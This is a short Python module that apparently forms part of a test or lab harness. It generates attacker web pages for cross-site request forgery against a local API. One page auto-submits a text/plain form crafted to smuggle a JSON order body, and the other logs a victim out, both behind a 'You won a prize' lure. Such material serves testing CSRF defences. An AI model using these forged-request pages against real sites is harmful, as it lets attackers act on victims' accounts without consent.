"""The attacker's pages (pure): a form that posts itself to the API as soon as it loads.

A form cannot send JSON or any header of its choice: its ``enctype`` is
``application/x-www-form-urlencoded``, ``multipart/form-data`` or ``text/plain``. The classic
trick is ``text/plain`` with one field whose name and value together make a JSON text: the
browser sends ``name=value``, so the ``=`` has to land somewhere harmless. Here it lands inside
the item's name: the body is exactly ``{"item":"csrf=","quantity":1}``, which the node's
strict validation accepts (a trailing ``"x":"="`` field would be refused as unknown).
"""

from __future__ import annotations

from html import escape

ORDER_NAME = '{"item":"csrf'
ORDER_VALUE = '","quantity":1}'
#: What the form above makes the browser send (and what a created order's item would be).
ORDER_BODY = ORDER_NAME + "=" + ORDER_VALUE
ORDER_ITEM = "csrf="


def _page(action: str, field: str = "") -> str:
    return (
        "<!doctype html><html><head><title>You won a prize</title></head><body>"
        f'<form id="f" method="POST" action="{escape(action)}" enctype="text/plain">{field}'
        "</form><script>document.getElementById('f').submit()</script></body></html>"
    )


def order_page(api: str, user: str) -> str:
    """Creates an order for ``user`` at ``api`` (an origin like ``http://127.0.0.1:8081``)."""
    field = f'<input type="hidden" name="{escape(ORDER_NAME)}" value="{escape(ORDER_VALUE)}">'
    return _page(f"{api}/users/{user}/orders", field)


def logout_page(api: str) -> str:
    """Logs the victim out (with a revocation mode on: takes the token back)."""
    return _page(f"{api}/auth/logout")
